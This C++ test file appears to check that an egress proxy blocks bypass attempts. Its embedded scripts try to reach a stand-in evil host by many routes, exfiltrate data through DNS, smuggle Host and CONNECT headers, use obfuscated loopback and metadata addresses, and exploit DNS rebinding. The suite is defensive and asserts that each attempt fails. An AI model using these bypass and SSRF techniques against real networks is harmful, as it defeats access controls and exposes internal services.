// Ways past a proxy that people have reported of others: none leads anywhere here.
#include <gmock/gmock.h>

#include "rig.h"

namespace mvm::egress {
namespace {

using ::testing::Contains;
using ::testing::Each;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

constexpr const char* kPublic = "93.184.216.34";
constexpr const char* kEvil = "6.6.6.6";
constexpr const char* kEvil6 = "2600:6::6";

class Bypass : public EgressTest {
 protected:
  void SetUp() override {
    EgressTest::SetUp();
    if (IsSkipped()) return;
    own_address(kPublic);
    resolver_.add("example.com", kPublic);
  }
  void serve_hello(const std::string& address = kPublic, uint16_t port = 80) {
    serve_python(
        "import http.server\n"
        "class H(http.server.BaseHTTPRequestHandler):\n"
        "  def do_GET(self):\n"
        "    self.send_response(200); self.end_headers(); self.wfile.write(b'hello')\n"
        "  do_CONNECT = do_POST = do_GET\n"
        "http.server.ThreadingHTTPServer(('" +
            address + "', " + std::to_string(port) + "), H).serve_forever()",
        {ip(address), port});
  }
};

// A host that no rule names, which tells of everything that reaches it in any way.
TEST_F(Bypass, NothingReachesAHostThatNoRuleNames) {
  own_address(kEvil);
  own_address(kEvil6);
  resolver_.add("evil.test", kEvil);
  Program& evil = serve_python(R"(
import select, socket
all = []
for address in ('6.6.6.6', '2600:6::6'):
  family = socket.AF_INET6 if ':' in address else socket.AF_INET
  for port in (22, 25, 53, 80, 123, 443, 853, 8443):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
      s = socket.socket(family, kind); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((address, port))
      if kind == socket.SOCK_STREAM: s.listen(8)
      all.append(s)
for protocol in (socket.IPPROTO_ICMP, 47):
  s = socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol); s.bind(('6.6.6.6', 0)); all.append(s)
l = socket.create_server(('6.6.6.6', 9999))
while True:
  for s in select.select(all, [], [])[0]:
    what = s.recvfrom(99)[0] if s.type != socket.SOCK_STREAM else s.accept()[1]
    print('reached', s.getsockname(), what, flush=True)
)",
                               {ip(kEvil), 9999});
  serve_hello();
  allow_host("example.com");
  start_proxy();
  const auto exit = guest({"python3", "-c", R"(
import socket, struct, ssl
def attempt(work):
  try: work(); print('done')
  except OSError: pass
def tcp(address, port):
  with socket.create_connection((address, port), 5) as s:
    if address != 'example.com': print('connected to', address, port)
    return s
def udp(address, port, data=b'x'):
  s = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, socket.SOCK_DGRAM); s.sendto(data, (address, port))
for address in ('6.6.6.6', '2600:6::6', '::ffff:6.6.6.6', '64:ff9b::606:606'):
  for port in (22, 25, 80, 123, 443, 853, 8443):
    attempt(lambda: tcp(address, port))
    try: udp(address, port)
    except OSError: pass
# DNS is the resolver's, wherever it is sent; and what it carries is no more than a name.
query = b'\x12\x34\x01\0\0\1\0\0\0\0\0\0\6secret\4evil\4test\0\0\x10\0\1'
for address in ('6.6.6.6', '2600:6::6'):
  udp(address, 53, query); udp(address, 53, b'not DNS at all')
  s = socket.create_connection((address, 53), 5); s.sendall(b'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n'); s.close()
# Other protocols.
for protocol, data in ((socket.IPPROTO_ICMP, b'\x08\0\xf7\xff\0\0\0\0'), (47, b'\0\0\x08\0' + b'x' * 20), (4, b'E' * 20), (132, b'x' * 12)):
  s = socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol)
  try: s.sendto(data, ('6.6.6.6', 0))
  except OSError: pass
# By a host that may be reached.
def ask(request):
  s = socket.create_connection(('example.com', 80), 5); s.settimeout(5); s.sendall(request); return s.recv(12)
for request in (b'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n', b'GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n',
                b'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n', b'CONNECT 6.6.6.6:80 HTTP/1.1\r\nHost: 6.6.6.6:80\r\n\r\n',
                b'GET / HTTP/1.1\r\nHost: 6.6.6.6\r\n\r\n', b'GET / HTTP/1.1\r\nHost: 0x06060606\r\n\r\n', b'GET / HTTP/1.1\r\nHost: [::ffff:606:606]\r\n\r\n'):
  print(ask(request).decode())
for host in ('evil.test', '6.6.6.6', '6.6.6.6.example.com', 'example.com.evil.test'):
  try: socket.getaddrinfo(host, 80) if host != '6.6.6.6' else 1 / 0; print('resolved', host)
  except (socket.gaierror, ZeroDivisionError): pass
print(ask(b'GET / HTTP/1.0\r\nHost: example.com\r\n\r\n').decode())
)"});
  EXPECT_EQ(exit.out,
            "HTTP/1.1 403\nHTTP/1.1 403\nHTTP/1.1 403\nHTTP/1.1 403\nHTTP/1.1 403\nHTTP/1.1 400\n"
            "HTTP/1.1 403\nHTTP/1.1 200\n")
      << exit.err;
  EXPECT_EQ(evil.exit().out, "");
  EXPECT_THAT(resolver_.asked, Each(HasSubstr("udp example.com ")));
  // It would have told.
  allow_range("6.6.6.6:8443");
  proxy_->set_policy(settings_.policy, Mode::Enforce);
  guest({"python3", "-c", "import socket; socket.create_connection(('6.6.6.6', 8443))"});
  EXPECT_TRUE(eventually([&] { return !evil.exit().out.empty(); }));
}

// One decision has one word, on whichever way it is met, and is told of once.
TEST_F(Bypass, OneReasonOnEveryWay) {
  serve_hello();
  own_address(kEvil);
  allow_endpoint("GET http://example.com/open");
  start_proxy();
  guest({"getent", "ahostsv4", "example.com"});
  events_.clear();
  EXPECT_EQ(guest({"dig", "+tries=1", "+short", "evil.test", "A"}).out, "");
  EXPECT_EQ(guest({"curl", "-s", "--noproxy", "*", "http://6.6.6.6/"}).code, 7);
  EXPECT_EQ(guest({"curl", "-s", "--resolve", "evil.test:80:6.6.6.6", "http://evil.test:80/"}).code,
            7);
  EXPECT_EQ(
      guest({"curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "http://example.com/other"})
          .out,
      "403");
  proxy_.reset();  // tells what it has held together
  std::vector<std::string> refused = told();
  std::erase_if(refused, [](const std::string& line) { return line.find("deny") == line.npos; });
  // The second of two equal ones within a second comes last.
  EXPECT_THAT(refused, ElementsAre("dns deny policy_denied A evil.test",
                                   "connect deny policy_denied 6.6.6.6 80",
                                   "http deny policy_denied GET example.com 93.184.216.34 80",
                                   "connect deny policy_denied 6.6.6.6 80"));
}

TEST_F(Bypass, EachRefusedConnectionIsOneRecord) {
  start_proxy();
  const auto exit = guest({"python3", "-c", R"(
import socket
for port in range(1000, 1050):
  for address in ('6.6.6.6', '2600:6::6'):
    try: socket.create_connection((address, port), 5)
    except ConnectionRefusedError: pass
    else: print('connected')
)"});
  EXPECT_EQ(exit.out + exit.err, "");
  ASSERT_TRUE(eventually([&] { return events_.size() >= 100; }));
  proxy_.reset();  // tells what it has held together
  ASSERT_EQ(events_.size(), 100U);
  for (size_t i = 0; i < events_.size(); ++i) {
    EXPECT_EQ(events_[i].port, 1000 + i / 2);
    EXPECT_EQ(events_[i].address->is_v4(), i % 2 == 0);
    EXPECT_EQ(events_[i].count, 1U);
  }
}

// However many names a guest makes up, what is told of them is bounded.
TEST_F(Bypass, MadeUpNamesAreNoFlood) {
  settings_.limits.queries_per_second = 0;
  start_proxy();
  const auto before = loop::Clock::now();
  const auto exit = guest({"python3", "-c", R"(
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('100.127.255.1', 53)); s.settimeout(20)
for i in range(10000):
  label = b'n%d' % i
  s.send(b'\x12\x34\x01\0\0\1\0\0\0\0\0\0' + bytes([len(label)]) + label + b'\4evil\4test\0\0\1\0\1'); s.recv(512)
)"});
  EXPECT_EQ(exit.out + exit.err, "");
  const auto seconds =
      static_cast<size_t>((loop::Clock::now() - before) / std::chrono::seconds(1)) + 2;
  EXPECT_EQ(proxy_->counters().queries, 10000U);
  EXPECT_EQ(proxy_->counters().queries_refused, 10000U);
  EXPECT_LE(events_.size(), 256 * seconds);
  EXPECT_GE(events_.size(), 256U);
  EXPECT_THAT(resolver_.asked, IsEmpty());
}

// A name that is one host's now and this machine's a moment later.
TEST_F(Bypass, ANameThatMovesIsFollowedToPublicAddressesOnly) {
  serve_hello("127.0.0.1", 80);
  serve_hello("127.0.0.1", 7000);
  serve_hello();
  own_address("10.9.9.9");
  serve_hello("10.9.9.9");
  allow_host("moves.example");
  allow_host("moves.example:7000");
  start_proxy();
  const auto now_at = [&](const std::vector<const char*>& addresses) {
    resolver_.clear();
    for (const char* address : addresses) resolver_.add("moves.example", address, 0);
  };
  const auto get = [&](const std::string& port = "80") {
    return guest({"curl", "-s", "-m", "20", "http://moves.example:" + port + "/"}).out;
  };
  for (const char* elsewhere :
       {"127.0.0.1", "10.9.9.9", "169.254.169.254", "::1", "fd00::1", "::ffff:127.0.0.1"}) {
    now_at({elsewhere});
    EXPECT_EQ(get(), "") << elsewhere;
    now_at({kPublic});
    EXPECT_EQ(get(), "hello") << elsewhere;
    now_at({elsewhere, kPublic});
    EXPECT_EQ(get(), "hello") << elsewhere;
  }
  // Looked up while it is public, where nobody listens; then it moves, and what is dialled next
  // does not follow.
  now_at({kPublic});
  guest({"getent", "ahostsv4", "moves.example"});
  now_at({"127.0.0.1"});
  EXPECT_EQ(guest({"curl", "-s", "-m", "20", "--resolve", "moves.example:7000:93.184.216.34",
                   "http://moves.example:7000/"})
                .out,
            "");
}

// Whoever is called so on this machine is not what a guest means, nor may be.
TEST_F(Bypass, NoSpellingOfThisMachineLeadsToIt) {
  Program& host = serve_python(R"(
import socket
for l in [socket.create_server(('127.0.0.1', 18095), backlog=8)]:
  while True: c = l.accept()[0]; print('reached', flush=True); c.close()
)",
                               {ip("127.0.0.1"), 18095});
  serve_hello();
  resolver_.add("host.example", "127.0.0.1", 0);
  allow_host("host.example:18095");
  allow_host("example.com");
  start_proxy();
  ASSERT_TRUE(eventually([&] { return host.exit().out == "reached\n"; }));  // by the test itself
  for (const char* name :
       {"host.example", "localhost", "127.0.0.1", "[::1]", "0x7f000001", "2130706433", "0177.0.0.1",
        "127.1", "0.0.0.0", "[::ffff:127.0.0.1]", "100.127.255.1", "[fd6d:766d::1]"}) {
    EXPECT_NE(guest({"curl", "-s", "-m", "20", std::string("http://") + name + ":18095/"}).code, 0)
        << name;
    // 400: what some read as an address and others as a name.
    EXPECT_THAT(guest({"curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-H",
                       std::string("Host: ") + name + ":18095", "http://example.com/"})
                    .out,
                testing::AnyOf("403", "400"))
        << name;
  }
  EXPECT_EQ(host.exit().out, "reached\n");
  EXPECT_THAT(told(), Contains("dns deny loopback A host.example 127.0.0.1"));
}

// A proxy of somebody else's, that a rule names, is a server like any other: what is asked of it
// for another host is refused, so nothing goes round what the rules say of that host.
TEST_F(Bypass, AThirdPartysProxyIsNoWayRound) {
  Program& proxy = serve_python(R"(
import http.server
class H(http.server.BaseHTTPRequestHandler):
  def log_message(self, *a): print(self.requestline, flush=True)
  def do_GET(self): self.send_response(200); self.end_headers(); self.wfile.write(b'hello')
  do_CONNECT = do_GET
http.server.ThreadingHTTPServer(('93.184.216.34', 80), H).serve_forever()
)",
                                {ip(kPublic), 80});
  resolver_.add("proxy.example", kPublic);
  allow_host("proxy.example");
  start_proxy();
  const auto by = [&](const std::string& url) {
    return guest({"curl", "-s", "-k", "-m", "20", "-x", "http://proxy.example:80", url, "-o",
                  "/dev/null", "-w", "%{http_code} %{http_connect}"})
        .out;
  };
  EXPECT_EQ(by("http://api.example/"), "403 000");
  EXPECT_EQ(by("https://api.example/"), "000 403");
  EXPECT_EQ(proxy.exit().out, "");
  EXPECT_EQ(guest({"curl", "-s", "http://proxy.example/"}).out, "hello");
}

// Looking into everything is no rule: what is looked into has to be admitted by another.
TEST_F(Bypass, LookingIntoEverythingAdmitsNothing) {
  serve_hello();
  settings_.policy.inspect.push_back({{}, {}, true});
  settings_.certify_any_name = true;
  settings_.http_proxy = {{ip("100.127.255.1"), 3128}};
  start_proxy();
  EXPECT_THAT(guest({"curl", "-sS", "http://example.com/"}).err, HasSubstr("Could not resolve"));
  EXPECT_THAT(guest({"curl", "-sS", "http://93.184.216.34/"}).err, HasSubstr("Couldn't connect"));
  EXPECT_THAT(guest({"curl", "-sS", "-x", "http://100.127.255.1:3128", "http://example.com/"}).out,
              HasSubstr("policy_denied"));
  policy::Policy policy = settings_.policy;
  policy.hosts.push_back(policy::parse_host_rule("example.com").value());
  proxy_->set_policy(policy, Mode::Enforce);
  EXPECT_EQ(guest({"curl", "-sS", "http://example.com/"}).out, "hello");
}

TEST_F(Bypass, EncryptedDnsIsNoService) {
  start_proxy();
  const auto exit = guest({"python3", "-c", R"(
import socket
for address in ('100.127.255.1', '9.9.9.9', '2620:fe::fe'):
  for port in (853, 443):
    try: socket.create_connection((address, port), 5)
    except ConnectionRefusedError: print('refused')
    s = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.connect((address, port)); s.send(b'x')
    try: s.recv(1)
    except TimeoutError: print('silence')
    except OSError: print('refused')
)"});
  EXPECT_THAT(exit.out, testing::Not(HasSubstr("silence"))) << exit.err;
  EXPECT_EQ(std::count(exit.out.begin(), exit.out.end(), '\n'), 12) << exit.err;
}

// Hundreds of clients that have said all they had to, and their servers too.
TEST_F(Bypass, ConnectionsThatEndByHalvesLeaveNothing) {
  serve_python(R"(
import socket, threading
l = socket.create_server(('93.184.216.34', 7000), backlog=512)
def one(c):
  got = b''
  while (part := c.recv(65536)): got += part
  if got != b'first': c.sendall(got[::-1])
  c.close()
def first(c):
  c.sendall(b'bye'); c.shutdown(socket.SHUT_WR)
  while c.recv(65536): pass
  c.close()
n = 0
while True:
  c = l.accept()[0]; n += 1
  threading.Thread(target=one if n % 2 else first, args=(c,)).start()
)",
               {ip(kPublic), 7000});
  settings_.limits.flows_per_second = 0;
  allow_host("example.com:7000");
  start_proxy();
  const auto exit = guest({"python3", "-c", R"(
import socket
bad = 0
for i in range(400):
  s = socket.create_connection(('93.184.216.34' if i else 'example.com', 7000), 20)
  s.sendall(b'abc'); s.shutdown(socket.SHUT_WR); got = b''
  while (part := s.recv(99)): got += part
  bad += got not in (b'cba', b'bye')
print(bad)
)"});
  EXPECT_EQ(exit.out, "0\n") << exit.err;
  EXPECT_TRUE(eventually([&] { return proxy_->counters().flows_now == 0; }));
}

}
}
